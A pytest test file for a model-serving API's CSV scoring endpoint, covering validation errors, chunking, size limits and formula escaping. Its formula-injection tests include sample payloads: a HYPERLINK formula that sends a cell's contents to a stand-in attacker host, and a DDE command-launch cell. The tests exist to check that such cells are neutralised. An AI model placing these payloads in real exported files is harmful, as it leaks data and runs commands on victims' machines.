"""CSV batch scoring through the predict endpoint: the scored file, line-numbered errors, chunks, limits."""
from __future__ import annotations

import csv
import io
import tracemalloc

import pandas as pd
import pytest

from app import create_app, scoring
from app.csvreading import CsvLimits
from app.errors import InvalidInput
from tests.conftest import _iris_like, write_version

HEADER = "sepal_length,sepal_width,petal_length,petal_width"
SETOSA, VIRGINICA = "5.0,3.4,1.5,0.2", "6.6,3.0,5.5,2.0"
CSV = {"Content-Type": "text/csv", "Accept": "text/csv"}


def post_csv(client, text: str | bytes, url: str = "/v1/models/iris/predict", **headers):
    return client.post(url, data=text, headers={**CSV, **headers})


def frame(response) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(response.data), dtype=str)


def test_scored_file_keeps_every_column_and_appends_predictions(client):
    response = post_csv(client, f"case,{HEADER}\nA,{SETOSA}\nB,6.60,3.0,5.5,2.0\n")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == 'attachment; filename="iris-v2-predictions.csv"'
    assert response.headers["X-Rows-Scored"] == "2"
    assert int(response.headers["Content-Length"]) == len(response.data)
    scored = frame(response)
    assert list(scored.columns) == ["case", *HEADER.split(","), "prediction"]
    assert scored["prediction"].tolist() == ["setosa", "virginica"]
    assert scored["sepal_length"].tolist() == ["5.0", "6.60"]  # values come back exactly as sent


def test_probabilities_add_one_column_per_class(client):
    scored = frame(post_csv(client, f"{HEADER}\n{SETOSA}\n", "/v1/models/iris/versions/1/predict?probabilities=true"))
    columns = ["probability_setosa", "probability_versicolor", "probability_virginica"]
    assert list(scored.columns)[-4:] == ["prediction", *columns]
    assert scored[columns].astype(float).sum(axis=1).round(9).tolist() == [1.0]


def test_regressor_and_categorical_pipeline(client):
    scored = frame(post_csv(client, "x_0,x_1,x_2\n1,2,3\n0,0,0\n", "/v1/models/linear/predict"))
    assert [round(float(v), 6) for v in scored["prediction"]] == [2.5, 0.5]  # 1 + 2*2 - 3 + 0.5
    scored = frame(post_csv(client, "size,colour\n30,red\n2,blue\n", "/v1/models/shop/predict"))
    assert scored["prediction"].tolist() == ["True", "False"]


@pytest.mark.parametrize("accept", [None, "*/*", "text/*", "application/json;q=0.9, text/csv;q=0.5"])
def test_csv_is_answered_when_the_client_accepts_it(client, accept):
    headers = {"Content-Type": "text/csv", **({"Accept": accept} if accept else {})}
    response = client.post("/v1/models/iris/predict", data=f"{HEADER}\n{SETOSA}\n", headers=headers)
    assert response.status_code == 200 and response.mimetype == "text/csv"


def test_csv_body_with_json_only_accept_is_406(client):
    response = post_csv(client, f"{HEADER}\n{SETOSA}\n", Accept="application/json")
    assert response.status_code == 406
    assert response.mimetype == "application/problem+json"
    assert "Accept: text/csv" in response.get_json()["detail"]


def test_invalid_rows_are_reported_by_line_and_nothing_is_scored(repo):
    app = create_app({"TESTING": True, "MODEL_REPOSITORY": str(repo), "CSV_CHUNK_ROWS": 2})
    text = f"{HEADER}\n{SETOSA}\n\n5.0,wide,1.5,0.2\n{SETOSA}\n{SETOSA}\n1e400,3.4,,0.2\n{SETOSA}\n"
    response = post_csv(app.test_client(), text)
    assert response.status_code == 400
    body = response.get_json()
    assert body["errors"] == [
        {"path": "line 4/sepal_width", "message": "must be a number, got string"},
        {"path": "line 7/petal_length", "message": "is empty: every row needs a value in this column"},
        {"path": "line 7/sepal_length", "message": "must be a number, got string"},
    ]
    assert body["detail"].startswith("2 line(s) of the file failed validation, so nothing was scored")


def test_rows_with_too_many_values_name_their_line(client):
    errors = post_csv(client, f"{HEADER}\n{SETOSA}\n{SETOSA},9\n").get_json()["errors"]
    assert errors == [{"path": "line 3", "message": "has 5 values; the header has 4 columns"}]


def test_unknown_category_is_reported_with_the_allowed_values(client):
    errors = post_csv(client, "colour,size\nred,3\npurple,4\n", "/v1/models/shop/predict").get_json()["errors"]
    assert errors == [{"path": "line 3/colour", "message": "must be one of 'blue', 'green', 'red'"}]


@pytest.mark.parametrize("text, path, hint", [
    ("", "line 1", "first line must be a header"),
    ("sepal_length,sepal_width,petal_length\n1,2,3\n", "line 1/petal_width", "header row must name"),
    (f"{HEADER},petal_width\n", "line 1/petal_width", "header row must name"),
    ("5.0,3.4,1.5,0.2\n6.6,3.0,5.5,2.0\n", "line 1/sepal_length", "Is the first line a header row?"),
    (f"{HEADER}\n", "line 2", "no data rows"),
    (b"sepal_length,sepal_width,petal_length,petal_width\n5,3,1,\xff\n", "", "not UTF-8"),
    (("\ufeff" + HEADER).encode(), "line 2", "no data rows"),
    (f"{HEADER}\n{SETOSA}\n".encode("utf-16-be"), "line 1", "UTF-16"),
])
def test_unusable_files_say_how_to_fix_them(client, text, path, hint):
    body = post_csv(client, text).get_json()
    assert body["status"] == 400
    assert hint in body["detail"]
    assert path in [e["path"] for e in body["errors"]]


def test_spreadsheet_variants_semicolons_bom_and_crlf(client):
    text = "\ufeff" + HEADER.replace(",", ";") + "\r\n5,0;3,4;1,5;0,2\r\n"  # decimal commas are not numbers
    paths = {e["path"] for e in post_csv(client, text.encode()).get_json()["errors"]}
    assert paths == {f"line 2/{name}" for name in HEADER.split(",")}
    response = post_csv(client, ("\ufeff" + HEADER.replace(",", ";") + "\r\n5.0;3.4;1.5;0.2\r\n").encode())
    assert response.get_data(as_text=True) == HEADER.replace(",", ";") + ";prediction\n5.0;3.4;1.5;0.2;setosa\n"


def test_existing_prediction_column_is_replaced_not_duplicated(client):
    scored = frame(post_csv(client, f"{HEADER},prediction\n{SETOSA},old\n"))
    assert list(scored.columns).count("prediction") == 1 and scored["prediction"].tolist() == ["setosa"]


def test_failing_lines_are_all_counted_but_the_list_is_capped(client):
    text = HEADER + "\n" + "x,3.4,1.5,0.2\n" * (scoring.MAX_REPORTED + 50)
    body = post_csv(client, text).get_json()
    assert len(body["errors"]) == scoring.MAX_REPORTED
    assert body["detail"].startswith(f"{scoring.MAX_REPORTED + 50} line(s)")
    assert f"only the first {scoring.MAX_REPORTED} problems are listed" in body["detail"]


def test_big_files_are_predicted_chunk_by_chunk(repo, monkeypatch):
    app = create_app({"TESTING": True, "MODEL_REPOSITORY": str(repo), "CSV_CHUNK_ROWS": 40})
    sizes: list[int] = []
    with app.app_context():
        runtime = app.extensions["modelhost.registry"].get("iris").ready_runtime()
    original = runtime.predict
    monkeypatch.setattr(runtime, "predict", lambda columns, p: sizes.append(len(columns["sepal_length"]))
                        or original(columns, p))
    monkeypatch.setattr(scoring, "SPOOL_BYTES", 1024)  # the answer moves to disk instead of growing in memory
    response = post_csv(app.test_client(), HEADER + "\n" + f"{SETOSA}\n{VIRGINICA}\n" * 50)
    assert response.status_code == 200
    assert sizes == [40, 40, 20]
    scored = frame(response)
    assert len(scored) == 100 and scored["prediction"].tolist() == ["setosa", "virginica"] * 50


def test_body_over_the_size_limit_is_413_including_chunked(repo):
    client = create_app({"TESTING": True, "MODEL_REPOSITORY": str(repo), "MAX_CONTENT_LENGTH": 1000}).test_client()
    big = (HEADER + "\n" + f"{SETOSA}\n" * 100).encode()
    response = post_csv(client, big)
    assert response.status_code == 413 and response.mimetype == "application/problem+json"
    # No Content-Length: the limit holds while the chunks are read, and no partial file is returned.
    response = client.post("/v1/models/iris/predict", input_stream=io.BytesIO(big),
                           headers={**CSV, "Transfer-Encoding": "chunked"}, environ_base={"wsgi.input_terminated": True})
    assert response.status_code == 413 and response.mimetype == "application/problem+json"


def test_probabilities_of_a_regressor_are_refused_before_reading(client):
    response = post_csv(client, "x_0,x_1,x_2\n1,2,3\n", "/v1/models/linear/predict?probabilities=true")
    assert response.status_code == 400 and "without class probabilities" in response.get_json()["detail"]


def test_openapi_documents_csv_and_its_example_scores(client):
    spec = client.get("/apispec.json").get_json()
    operation = spec["paths"]["/v1/models/iris/predict"]["post"]
    example = operation["requestBody"]["content"]["text/csv"]["example"]
    assert example.splitlines()[0] == HEADER
    assert "text/csv" in operation["responses"]["200"]["content"] and "406" in operation["responses"]
    assert post_csv(client, example).status_code == 200
    for path in ("/v1/models/iris/predict", "/v1/models/iris/versions/{version}/predict"):
        parameters = {p["name"]: p for p in spec["paths"][path]["post"]["parameters"]}
        assert parameters["escape_formulas"]["in"] == "query"
        assert parameters["escape_formulas"]["schema"] == {"type": "boolean"}
        assert "CSV_ESCAPE_FORMULAS" in parameters["escape_formulas"]["description"]


def test_other_content_types_are_still_415_and_name_csv(client):
    response = client.post("/v1/models/iris/predict", data="x", headers={"Content-Type": "text/plain"})
    assert response.status_code == 415 and "text/csv" in response.get_json()["detail"]


@pytest.fixture(scope="module")
def typed_client(tmp_path_factory: pytest.TempPathFactory):
    """A model trained on whole numbers, booleans, categories and numbers."""
    from app import training

    root = tmp_path_factory.mktemp("typed") / "models"
    rows = 40
    data = pd.DataFrame({"visits": [i % 7 for i in range(rows)], "member": [i % 3 == 0 for i in range(rows)],
                         "colour": ["red", "green", "blue", "red"] * (rows // 4),
                         "size": [float(i) / 3 for i in range(rows)]})
    data["bought"] = ["yes" if (c == "red" or m) else "no" for c, m in zip(data["colour"], data["member"])]
    training.train(root, "typed", data, training.TrainingOptions(target="bought"), {"file": "typed.csv"},
                   progress=lambda _: None)
    return create_app({"TESTING": True, "MODEL_REPOSITORY": str(root)}).test_client()


def test_whole_numbers_and_booleans_are_read_like_form_fields(typed_client):
    text = "visits,member,colour,size\n3,yes,red,1.5\n3.0,FALSE,green,2\n 4 ,on,blue,0\n"
    scored = frame(post_csv(typed_client, text, "/v1/models/typed/predict"))
    assert scored["prediction"].tolist() == ["yes", "no", "yes"]
    bad = "visits,member,colour,size\n3.5,maybe,red,1\n"
    errors = post_csv(typed_client, bad, "/v1/models/typed/predict").get_json()["errors"]
    assert errors == [{"path": "line 2/member", "message": "must be a boolean, got string"},
                      {"path": "line 2/visits", "message": "must be an integer, got number"}]


# Rows wider than the header, line breaks and delimiters at the ends of lines.

@pytest.mark.parametrize("sep", [",", ";"])
def test_rows_wider_than_the_header_are_reported_by_line_never_shifted(client, sep):
    text = f"{HEADER}\n{SETOSA},9\n{VIRGINICA},9\n".replace(",", sep)
    response = post_csv(client, text)
    assert response.status_code == 400
    assert response.get_json()["errors"] == [{"path": "line 2", "message": "has 5 values; the header has 4 columns"},
                                             {"path": "line 3", "message": "has 5 values; the header has 4 columns"}]


def test_rows_two_values_wider_name_the_first_such_line(client):
    errors = post_csv(client, f"{HEADER}\n{SETOSA},9,9\n{SETOSA},9,9\n").get_json()["errors"]
    assert errors == [{"path": "line 2", "message": "has 6 values; the header has 4 columns"}]


@pytest.mark.parametrize("newline", ["\r", "\r\n", "\n"], ids=["cr-old-mac", "crlf", "lf"])
def test_every_kind_of_line_break_is_read_with_exact_line_numbers(client, newline):
    response = post_csv(client, newline.join([HEADER, SETOSA, VIRGINICA, ""]))
    assert response.status_code == 200
    assert frame(response)["prediction"].tolist() == ["setosa", "virginica"]
    errors = post_csv(client, newline.join([HEADER, SETOSA, "", "5.0,wide,1.5,0.2", ""])).get_json()["errors"]
    assert errors == [{"path": "line 4/sepal_width", "message": "must be a number, got string"}]


def test_a_delimiter_at_the_end_of_every_row_holds_no_value(client):
    response = post_csv(client, f"{HEADER}\n{SETOSA},\n{VIRGINICA},\n")
    assert response.status_code == 200
    assert response.get_data(as_text=True) == f"{HEADER},prediction\n{SETOSA},setosa\n{VIRGINICA},virginica\n"


def test_delimiters_at_the_end_of_the_header_too_keep_unnamed_columns(client):
    response = post_csv(client, f"{HEADER},,\n{SETOSA},,\n{VIRGINICA},note,\n")
    assert response.status_code == 200
    assert response.get_data(as_text=True) == (f"{HEADER},,,prediction\n{SETOSA},,,setosa\n"
                                               f"{VIRGINICA},note,,virginica\n")


def test_a_quote_never_closed_names_its_line(client):
    body = post_csv(client, f'{HEADER}\n{SETOSA}\n"5.0,3.4,1.5,0.2\n{SETOSA}\n').get_json()
    assert body["status"] == 400
    assert body["errors"] == [{"path": "line 3", "message": 'opens a quoted value (") that is never closed: '
                               "add the closing quote, or remove the stray one"}]


def test_a_header_longer_than_64_kib_is_read_whole(client):
    notes = [f"note_with_a_long_descriptive_name_{i:04d}" for i in range(1800)]
    header = ",".join([HEADER, *notes])
    assert len(header) > 64 * 1024
    response = post_csv(client, f"{header}\n{SETOSA}{',x' * len(notes)}\n")
    assert response.status_code == 200
    scored = frame(response)
    assert list(scored.columns) == [*HEADER.split(","), *notes, "prediction"]
    assert scored["prediction"].tolist() == ["setosa"] and scored[notes[-1]].tolist() == ["x"]


LIMITS = CsvLimits(chunk_rows=5_000, max_columns=2_048)


class Trickle(io.RawIOBase):
    """A body that arrives a few bytes per read, as from a slow connection."""

    def __init__(self, data: bytes, size: int) -> None:
        super().__init__()
        self.data, self.size = data, size

    def readable(self) -> bool:
        return True

    def readinto(self, buffer) -> int:
        block, self.data = self.data[:min(self.size, len(buffer))], self.data[min(self.size, len(buffer)):]
        buffer[:len(block)] = block
        return len(block)


@pytest.mark.parametrize("size", [1, 1000])
def test_the_header_is_read_whole_however_the_body_arrives(app, size):
    with app.app_context():
        runtime = app.extensions["modelhost.registry"].get("iris").ready_runtime()
    notes = ",".join(f"note_{i}" for i in range(1500))
    text = f"{HEADER},{notes}\r\n{SETOSA}{',' * 1500}\r\n5.0,wide,1.5,0.2{',' * 1500}\r\n"
    with pytest.raises(InvalidInput) as refused:  # "\r\n" split between reads is one line break, not two
        scoring.score_csv(Trickle(text.encode(), size), runtime, False, LIMITS)
    assert refused.value.errors == [{"path": "line 3/sepal_width", "message": "must be a number, got string"}]
    scored = scoring.score_csv(Trickle(text.replace("wide", "3.4").encode(), size), runtime, False, LIMITS)
    assert scored.rows == 2 and b"".join(scored.blocks()).startswith(f"{HEADER},{notes},prediction\n".encode())


# Limits: columns and header line (CSV_MAX_COLUMNS).

def test_a_file_of_400k_columns_is_refused_cheaply_before_it_is_parsed(client):
    body = (",".join(f"c{i}" for i in range(400_000)) + "\n").encode()  # it once took 365 MB and 7 s, then 500
    tracemalloc.start()
    try:
        response = post_csv(client, body)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert response.status_code == 413 and response.mimetype == "application/problem+json"
    assert "MODELHOST_CSV_MAX_COLUMNS" in response.get_json()["detail"]
    assert peak < len(body) / 2


def test_csv_max_columns_caps_the_columns_and_the_header_line(repo):
    client = create_app({"TESTING": True, "MODEL_REPOSITORY": str(repo), "CSV_MAX_COLUMNS": 6}).test_client()
    assert post_csv(client, f"{HEADER},a,b\n{SETOSA},1,2\n").status_code == 200
    response = post_csv(client, f"{HEADER},a,b,c\n{SETOSA},1,2,3\n")
    assert response.status_code == 413
    body = response.get_json()
    assert body["errors"] == [{"path": "line 1", "message": "has 7 columns; at most 6 are read"}]
    assert "MODELHOST_CSV_MAX_COLUMNS" in body["detail"] and "sepal_length" in body["detail"]
    response = post_csv(client, f"{HEADER},{'n' * 6 * 128}\n{SETOSA},1\n")  # 5 columns, but a header over 6 * 128 bytes
    assert response.status_code == 413
    assert response.get_json()["errors"] == [{"path": "line 1", "message": "is longer than 768 bytes"}]


# Integer features: CSV reads a value as JSON does.

TYPED = "/v1/models/typed/predict?probabilities=true"


def _typed_answers(client, value: str):
    as_csv = post_csv(client, f"visits,member,colour,size\n{value},yes,red,1.5\n", TYPED)
    as_json = client.post(TYPED, data=f'{{"visits": {value}, "member": true, "colour": "red", "size": 1.5}}',
                          content_type="application/json")
    return as_csv, as_json


@pytest.mark.parametrize("value", ["1e20", "-1e20", "100000000000000000000", "9223372036854775808",
                                   "-9223372036854775808"])
def test_integers_beyond_int64_are_refused_in_csv_as_in_json(typed_client, value):
    as_csv, as_json = _typed_answers(typed_client, value)
    assert as_csv.status_code == as_json.status_code == 400
    assert as_csv.get_json()["errors"] == [{"path": "line 2/visits", "message": e["message"]}
                                           for e in as_json.get_json()["errors"]]


@pytest.mark.parametrize("value", ["5", "9223372036854775807", "-9223372036854775807", "4611686018427387904"])
def test_integers_within_int64_predict_the_same_from_csv_and_json(typed_client, value):
    as_csv, as_json = _typed_answers(typed_client, value)
    assert as_csv.status_code == as_json.status_code == 200
    scored, answer = frame(as_csv).iloc[0], as_json.get_json()
    assert scored["visits"] == value and scored["prediction"] == answer["prediction"]
    assert {label: float(scored[f"probability_{label}"]) for label in answer["probabilities"]} == \
        answer["probabilities"]


def test_a_suspect_row_beside_whole_number_columns_is_judged_not_a_500(typed_client):
    # Whole-number columns parse to int64 arrays that pandas hands out read-only; the row-by-row
    # check of a suspect line writes into every column.
    text = "visits,member,colour,size\n3,yes,red,1.5\n4,no,blue,2\n5.0,yes,green,1\n"
    scored = frame(post_csv(typed_client, text, TYPED))
    assert scored["visits"].tolist() == ["3", "4", "5.0"] and len(scored["prediction"]) == 3
    bad = post_csv(typed_client, "visits,member,colour,size\n-739874861445187986,yes,red,1.5\n*\n", TYPED)
    assert bad.status_code == 400 and "line 3" in bad.get_data(as_text=True)


# Formula injection (escape_formulas, CSV_ESCAPE_FORMULAS).

NOTES = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3", "\tindent",
         "\rreturn", "-1.5", "+3", "1e-5", "plain", "a=b"]
NEUTRALISED = ["'" + n for n in NOTES[:6]] + NOTES[6:]


@pytest.fixture
def formula_client(tmp_path):
    """A classifier whose class labels start like formulas, and a file of formula-like notes."""
    X, y = _iris_like()
    from sklearn.linear_model import LogisticRegression

    labels = {"setosa": "=setosa", "versicolor": "-versicolor", "virginica": "@virginica"}
    write_version(tmp_path / "models", "formulas", 1, LogisticRegression(max_iter=500).fit(X, [labels[v] for v in y]))
    return lambda config=None: create_app({"TESTING": True, "MODEL_REPOSITORY": str(tmp_path / "models"),
                                           **(config or {})}).test_client()


def _formula_file() -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)  # a lone "\r" must be quoted too
    writer.writerow(["=total", "note", *HEADER.split(",")])
    writer.writerows([[str(i), note, *SETOSA.split(",")] for i, note in enumerate(NOTES)])
    return out.getvalue()


def _read_back(response) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(response.data), dtype=str, keep_default_na=False)


@pytest.mark.parametrize("config, query, escaped", [
    ({}, "", False),
    ({}, "?escape_formulas=true", True),
    ({}, "?escape_formulas=false", False),
    ({"CSV_ESCAPE_FORMULAS": True}, "", True),
    ({"CSV_ESCAPE_FORMULAS": "on"}, "?escape_formulas=off", False),
])
def test_escape_formulas_quotes_formula_cells_and_labels_but_not_numbers(formula_client, config, query, escaped):
    response = post_csv(formula_client(config), _formula_file(), f"/v1/models/formulas/predict{query}")
    assert response.status_code == 200
    scored = _read_back(response)
    assert list(scored.columns)[:2] == (["'=total", "note"] if escaped else ["=total", "note"])
    assert scored["note"].tolist() == (NEUTRALISED if escaped else NOTES)
    assert scored["prediction"].tolist() == ["'=setosa" if escaped else "=setosa"] * len(NOTES)
    assert scored["sepal_length"].tolist() == ["5.0"] * len(NOTES)


def test_escape_formulas_is_read_strictly(formula_client):
    response = post_csv(formula_client(), _formula_file(), "/v1/models/formulas/predict?escape_formulas=maybe")
    assert response.status_code == 400
    assert response.get_json()["errors"] == [{"path": "?escape_formulas",
                                              "message": "must be true or false, got 'maybe'"}]


def test_negative_predictions_stay_numbers_when_formulas_are_escaped(client):
    response = post_csv(client, "x_0,x_1,x_2\n0,0,5\n", "/v1/models/linear/predict?escape_formulas=true")
    assert round(float(frame(response)["prediction"][0]), 6) == -4.5  # 0 + 0 - 5 + 0.5
    assert "'" not in response.get_data(as_text=True)


@pytest.mark.parametrize("cell, written", [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(1)", "'@SUM(1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("-", "'-"), ("-e5", "'-e5"), ("-1.5", "-1.5"), ("+3", "+3"), ("-1,5", "-1,5"),
    ("-.5", "-.5"), ("-1e-05", "-1e-05"), ("a=b", "a=b"), ("", ""),
])
def test_neutralise_formulas_quotes_cells_and_names_that_start_a_formula(cell, written):
    out = scoring.neutralise_formulas(pd.DataFrame({cell: [cell], "n": [-1.5]}))
    assert list(out.columns) == [written, "n"]
    assert out.iloc[0].tolist() == [written, -1.5]


def test_a_value_holding_a_lone_carriage_return_comes_back_quoted(client):
    response = post_csv(client, f'note,{HEADER}\n"one\rtwo",{SETOSA}\n"three",{VIRGINICA}\n')
    assert response.status_code == 200
    assert '"one\rtwo"' in response.get_data(as_text=True)  # unquoted, readers would split the row there
    scored = frame(response)
    assert scored["note"].tolist() == ["one\rtwo", "three"] and scored["prediction"].tolist() == ["setosa", "virginica"]
